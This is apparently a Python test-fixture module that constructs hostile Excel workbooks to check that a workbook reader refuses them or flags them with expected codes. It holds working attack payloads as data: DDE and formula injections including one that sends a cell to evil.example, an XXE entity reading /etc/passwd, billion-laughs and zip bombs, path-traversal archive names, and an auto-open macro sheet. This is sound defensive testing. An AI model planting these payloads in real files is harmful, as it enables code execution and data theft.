"""Hostile workbooks, each built in code from a filled workbook of ours, with what must become of it.

A refused file has a code; a file that is read has exactly these findings on the sheet of its first project and these
values in that project, and everything else as it was written.
"""

from __future__ import annotations

import gzip
import io
import re
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cache

from departments import PLANNED, SETTINGS, small_department
from workbook.returning import FIRST, PLAN, PROJECT_PART
from zipped import packed, parts_of

from xlperf.model import Department, Period, Settings
from xlperf.ooxml.a1 import address
from xlperf.workbook.write.department import department_bytes

WORKBOOK, TYPES, RELATED = "xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
INJECTIONS = {
    "purpose": "=cmd|' /C calc'!A0",
    "deviation_reason": '@SUM(1+1)*HYPERLINK("http://evil.example","点我")',
    "objectives": ("+1+1", "-2+3", '=WEBSERVICE("http://evil.example/"&A1)', "\t=1+1"),
}
LAUGHS = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'

ANY = "*"  # the cell of a finding that no one cell has caused

Parts = dict[str, bytes]


@dataclass(frozen=True)
class Hostile:
    """How to build it from the parts of a good workbook, and its outcome."""

    build: Callable[[Parts], bytes]
    refused: str = ""
    findings: tuple[tuple[str, str], ...] = ()
    project: Mapping[str, object] = field(default_factory=dict)
    lost: bool = False  # the first project, with a finding


def department_no(number: int, project: Mapping[str, object] | None = None) -> Department:
    """The small department under codes of its own, so that no two files hold the same project."""
    small = small_department()
    first, second = (
        each.model_copy(update={"code": f"99{number:04d}26P{at:010d}2U"[:21]}) for at, each in enumerate(small.projects)
    )
    return small.model_copy(update={"projects": (first.model_copy(update=dict(project or {})), second)})


@cache
def good_parts(number: int, period: Period = Period.PLAN) -> Parts:
    """The parts of this department's workbook; the plan is the form on which people write most."""
    return parts_of(department_bytes(department_no(number), settings_in(period)))


def settings_in(period: Period) -> Settings:
    """The parameters of the workbooks of a period."""
    return SETTINGS.model_copy(update={"period": period})


def built(name: str, period: Period = Period.PLAN) -> bytes:
    """The bytes of a hostile file."""
    return HOSTILE[name].build(dict(good_parts(number_of(name), period)))


def number_of(name: str) -> int:
    """The number of its department."""
    return list(HOSTILE).index(name) + 100


# --- how they are built ----------------------------------------------------------------------------------------------


def raw(content: bytes) -> Callable[[Parts], bytes]:
    """Bytes that are no workbook at all."""
    return lambda _: content


def change(part: str, edit: Callable[[str], str], encoding: str = "utf-8") -> Callable[[Parts], bytes]:
    """One part rewritten."""
    return lambda parts: packed({**parts, part: edit(parts[part].decode()).encode(encoding)})


def put(cell: str, element: str) -> Callable[[str], str]:
    """The XML of a sheet with another element in place of a cell's; `{s}` stands for the cell's style."""

    def edit(xml: str) -> str:
        found = re.search(rf'<c r="{cell}" s="(\d+)"[^>]*?(?:/>|>.*?</c>)', xml)
        assert found, cell
        return xml.replace(found[0], element.replace("{r}", cell).replace("{s}", found[1]), 1)

    return edit


def filled(cell: str, element: str) -> Callable[[Parts], bytes]:
    """Another element in a cell of the first project's sheet."""
    return change(PROJECT_PART, put(cell, element))


def number(text: str) -> str:
    """A cell that claims to be a number."""
    return f'<c r="{{r}}" s="{{s}}"><v>{text}</v></c>'


def text(words: str) -> str:
    """A cell of text."""
    return f'<c r="{{r}}" s="{{s}}" t="inlineStr"><is><t xml:space="preserve">{words}</t></is></c>'


def in_sheet(content: str, before: str = "</sheetData>") -> Callable[[Parts], bytes]:
    """Content put into the first project's sheet."""
    return change(PROJECT_PART, lambda xml: xml.replace(before, content + before, 1))


def declared(declaration: str, encoding: str = "utf-8") -> Callable[[Parts], bytes]:
    """A document type declaration in front of the first project's sheet, with its entity used in a cell."""

    def edit(xml: str) -> str:
        entity = re.findall(r"<!ENTITY (\w+)", declaration)[-1]
        body = re.sub(r"^<\?xml.*?\?>\s*", "", xml).replace("<sheetData>", f"<sheetData><!-- &{entity}; -->", 1)
        return f'<?xml version="1.0" encoding="{encoding}"?>{declaration}' + body

    return change(PROJECT_PART, edit, encoding)


def with_members(*members: tuple[str, bytes]) -> Callable[[Parts], bytes]:
    """Members added under names as they are, though twice."""

    def build(parts: Parts) -> bytes:
        out = io.BytesIO(packed(parts))
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
            for name, content in members:
                info = zipfile.ZipInfo()
                info.filename = name  # unmended: ZipInfo(name) would cut it at a null character
                with warnings.catch_warnings():
                    warnings.simplefilter("ignore")  # of duplicates
                    package.writestr(info, content)
        return out.getvalue()

    return build


def lying_sizes(parts: Parts) -> bytes:
    """A sheet of 40 MB that says it has 1 KB, in both of its headers."""
    content = packed({**parts, PROJECT_PART: parts[PROJECT_PART] + b" " * 40_000_000})
    true = struct.pack("<I", len(parts[PROJECT_PART]) + 40_000_000)
    return content.replace(true, struct.pack("<I", 1_000))


def thousands_of_parts(parts: Parts) -> bytes:
    return packed({**parts, **{f"xl/media/image{i}.png": b"" for i in range(20_000)}})


def hundreds_of_sheets(parts: Parts) -> bytes:
    tabs = "".join(f'<sheet name="多{i}" sheetId="{i}" r:id="rId4"/>' for i in range(1_000, 11_000))
    return change(WORKBOOK, lambda xml: xml.replace("</sheets>", tabs + "</sheets>"))(parts)


def twin_names(parts: Parts) -> bytes:
    """Two project sheets under one title."""
    return change(WORKBOOK, lambda xml: re.sub(r'<sheet name="02_[^"]*"', f'<sheet name="{FIRST}"', xml))(parts)


def workbook_in_workbook(parts: Parts) -> bytes:
    """A zip in a zip in a zip."""
    content = packed(parts)
    for level in range(20):
        content = packed({f"{level}.xlsx": content})
    return content


def without_styles(parts: Parts) -> bytes:
    """Fonts nobody knows, and then no styles at all."""
    parts.pop("xl/styles.xml")
    return packed(parts)


def unknown_fonts(parts: Parts) -> bytes:
    wild = '<name val="&#x1F4A9;\'&quot;;DROP TABLE"/>'
    return change("xl/styles.xml", lambda xml: re.sub(r"<name val=\"[^\"]*\" ?/>", wild, xml))(parts)


def macro_sheet(parts: Parts) -> bytes:
    """An Excel 4 macro sheet that opens by itself."""
    tab = '<sheet name="宏" sheetId="99" state="veryHidden" r:id="rId99"/></sheets>'
    opened = '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">宏!$A$1</definedName>'
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    related = f'<Relationship Id="rId99" Type="{kind}" Target="macrosheets/sheet1.xml"/></Relationships>'
    macro = f'<xm:macrosheet xmlns:xm="x" xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'
    return packed(
        {
            **parts,
            WORKBOOK: parts[WORKBOOK].decode().replace("</sheets>", tab).replace("<definedNames>", opened).encode(),
            RELATED: parts[RELATED].decode().replace("</Relationships>", related).encode(),
            "xl/macrosheets/sheet1.xml": f"{macro}</sheetData></xm:macrosheet>".encode(),
        }
    )


def linked(target: str) -> Callable[[Parts], bytes]:
    """A relationship to a file elsewhere."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
    relation = f'<Relationship Id="rId98" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return change(RELATED, lambda xml: xml.replace("</Relationships>", relation))


def sheet_elsewhere(parts: Parts) -> bytes:
    """The first project's part is said to be outside the package."""
    return change(RELATED, lambda xml: xml.replace("worksheets/sheet4.xml", "../../../../etc/passwd"))(parts)


def injected(parts: Parts) -> bytes:
    """Formulas as text wherever a person may write text."""
    first = small_department().projects[0]
    code = re.search(rb"<t[^>]*>(99\d{4}26P[^<]*)</t>", parts[PROJECT_PART])
    assert code
    number = int(code[1][2:6])
    department = department_no(number, INJECTIONS)
    assert department.projects[0].name == first.name
    return department_bytes(department, PLANNED)


PURPOSE, INITIAL, WEIGHT = PLAN.cell_of("purpose"), PLAN.cell_of("budget.initial"), PLAN.cell_of("indicators.weight", 0)
BLANK_BUDGET = small_department().projects[0].budget.model_copy(update={"initial": None})

HOSTILE: dict[str, Hostile] = {
    # bombs
    "压缩炸弹": Hostile(change(PROJECT_PART, lambda xml: xml + " " * 60_000_000), "XPF208"),
    "谎报大小": Hostile(lying_sizes, "XPF201"),
    "套娃": Hostile(workbook_in_workbook, "XPF231"),
    "两万个部件": Hostile(thousands_of_parts),
    "一万张工作表": Hostile(hundreds_of_sheets, "XPF208"),
    "合并炸弹": Hostile(
        in_sheet("".join(f'<mergeCell ref="A{i}:XFD{i}"/>' for i in range(100_000)), "</mergeCells>"), "XPF208"
    ),
    "字符串炸弹": Hostile(
        lambda parts: with_strings(parts, "<si><t>" + "</t></si><si><t>".join("甲" * 1_200_000) + "</t></si>"), "XPF208"
    ),
    "单元格炸弹": Hostile(
        in_sheet("".join(f'<row r="{r}">' + f'<c r="A{r}"><v>{r}</v></c></row>' for r in range(1_000, 250_000))),
        findings=(("XPF309", "A1000"),),
    ),
    "密集单元格": Hostile(
        in_sheet(
            "".join(
                f'<row r="{r}">' + "".join(f'<c r="{address(r, c)}"><v>{r}</v></c>' for c in range(1, 61)) + "</row>"
                for r in range(1_000, 4_500)
            )
        ),
        "XPF208",
    ),
    "嵌套十万层": Hostile(in_sheet("<x>" * 100_000 + "</x>" * 100_000), "XPF208"),
    "十万个属性": Hostile(in_sheet("<x " + " ".join(f'a{i}=""' for i in range(100_000)) + "/>"), findings=()),
    # declarations and names
    "外部实体": Hostile(declared(EXTERNAL), "XPF208"),
    "实体膨胀": Hostile(declared(LAUGHS), "XPF208"),
    "实体膨胀UTF16": Hostile(declared(LAUGHS, "utf-16"), "XPF208"),
    "路径穿越": Hostile(
        with_members(
            ("../../../tmp/xlperf-evil.txt", b"x"),
            ("C:\\Windows\\evil.dll", b"x"),
            ("/etc/cron.d/evil", b"x"),
            ("CON", b"x"),
            ("a" * 30_000, b"x"),
        )
    ),
    "名中有零": Hostile(with_members(("xl/worksheets/sheet4.xml\x00.png", b"x")), "XPF208"),
    "同名部件": Hostile(with_members((PROJECT_PART, b"<worksheet/>")), "XPF208"),
    "同名异写": Hostile(with_members(("XL\\Worksheets\\SHEET4.xml", b"<worksheet/>")), "XPF208"),
    "部件在包外": Hostile(sheet_elsewhere, findings=(("XPF314", ANY), ("XPF304", ANY)), lost=True),
    "外部链接": Hostile(linked("file://///evil.example/share/x.xlsx"), findings=(("XPF213", ANY),)),
    "宏表": Hostile(macro_sheet, findings=(("XPF217", ANY), ("XPF327", ANY))),
    # dimensions
    "声明满表": Hostile(
        change(PROJECT_PART, lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml))
    ),
    "最远单元格": Hostile(
        in_sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), findings=(("XPF303", "XFD1048576"),)
    ),
    "百万空行": Hostile(in_sheet("".join(f'<row r="{r}"/>' for r in range(1_000, 1_048_577)))),
    "越界单元格": Hostile(in_sheet('<row r="9999999"><c r="ZZZ9999999"><v>1</v></c></row>'), "XPF201"),
    # what stands in cells
    "四万字": Hostile(
        filled(PURPOSE, text("长" * 40_000)), findings=(("XPF408", PURPOSE),), project={"purpose": "长" * 32_767}
    ),
    "非数NaN": Hostile(
        filled(INITIAL, number("NaN")), findings=(("XPF401", INITIAL),), project={"budget": BLANK_BUDGET}
    ),
    "无穷大": Hostile(
        filled(INITIAL, number("1e999")), findings=(("XPF401", INITIAL),), project={"budget": BLANK_BUDGET}
    ),
    "十万位数字": Hostile(
        filled(INITIAL, number("".join(f"{i:05}" for i in range(1, 20_000)))),
        findings=(("XPF401", INITIAL),),
        project={"budget": BLANK_BUDGET},
    ),
    "百万位数字": Hostile(
        filled(INITIAL, number("".join(f"{i:06}" for i in range(1, 180_000)))),
        findings=(("XPF401", INITIAL),),
        project={"budget": BLANK_BUDGET},
    ),
    "错误值": Hostile(
        filled(INITIAL, '<c r="{r}" s="{s}" t="e"><v>#REF!</v></c>'),
        findings=(("XPF306", INITIAL),),
        project={"budget": BLANK_BUDGET},
    ),
    "未算公式": Hostile(
        filled(INITIAL, '<c r="{r}" s="{s}"><f>DDE("cmd","/C calc","x")</f></c>'),
        findings=(("XPF311", INITIAL),),
        project={"budget": BLANK_BUDGET},
    ),
    "控制字符": Hostile(
        filled(PURPOSE, text("甲_x0000__x0007_乙_xD800_&#x202E;丙")), project={"purpose": "甲乙\ufffd\u202e丙"}
    ),
    "非法字符": Hostile(filled(PURPOSE, text("甲\x0b乙")), "XPF201"),
    "非法引用": Hostile(filled(PURPOSE, text("甲&#xFFFE;乙")), "XPF201"),
    "字符串越界": Hostile(filled(PURPOSE, '<c r="{r}" s="{s}" t="s"><v>999999</v></c>'), "XPF201"),
    "样式越界": Hostile(
        change(PROJECT_PART, lambda xml: re.sub(rf'(<c r="{WEIGHT}" s=)"\d+"', r'\1"99999999999999999999"', xml))
    ),
    "重复单元格": Hostile(in_sheet(f'<row r="999"><c r="{INITIAL}"><v>77</v></c></row>'), "XPF201"),
    "公式注入": Hostile(
        injected, project={**INJECTIONS, "objectives": ("+1+1", "-2+3", INJECTIONS["objectives"][2], "=1+1")}
    ),
    # sheets and styles
    "同名工作表": Hostile(twin_names),
    "没有样式": Hostile(without_styles),
    "未知字体": Hostile(unknown_fonts),
    # no workbooks of ours
    "空文件": Hostile(raw(b""), "XPF209"),
    "网页": Hostile(raw(b"<html><table><tr><td>1</td></tr></table></html>"), "XPF229"),
    "压缩包": Hostile(lambda parts: gzip.compress(packed(parts)), "XPF231"),
    "加密": Hostile(raw(OLE + "EncryptedPackage".encode("utf-16-le")), "XPF203"),
    "旧格式": Hostile(raw(OLE + "Workbook".encode("utf-16-le")), "XPF207"),
    "二进制格式": Hostile(
        change(
            TYPES,
            lambda xml: re.sub(
                r"application/[^\"]*sheet\.main\+xml", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", xml
            ),
        ),
        "XPF214",
    ),
    "截断": Hostile(lambda parts: packed(parts)[:-100], "XPF233"),
    "文档": Hostile(lambda _: packed({"word/document.xml": b"<document/>"}), "XPF234"),
}


IN_EVERY_PERIOD = (
    "压缩炸弹", "合并炸弹", "嵌套十万层", "十万个属性", "实体膨胀", "同名部件", "名中有零", "部件在包外", "声明满表",
    "最远单元格", "百万空行", "越界单元格", "同名工作表", "没有样式", "未知字体", "外部链接", "宏表", "截断",
)  # fmt: skip
"""Those that do not depend on what stands in which cell."""


def with_strings(parts: Parts, items: str) -> bytes:
    """A table of shared strings beside what we write without one."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    relation = f'<Relationship Id="rId97" Type="{kind}" Target="sharedStrings.xml"/></Relationships>'
    related = parts[RELATED].decode()
    if "sharedStrings" not in related:
        related = related.replace("</Relationships>", relation)
    return packed(
        {**parts, RELATED: related.encode(), "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{items}</sst>'.encode()}
    )
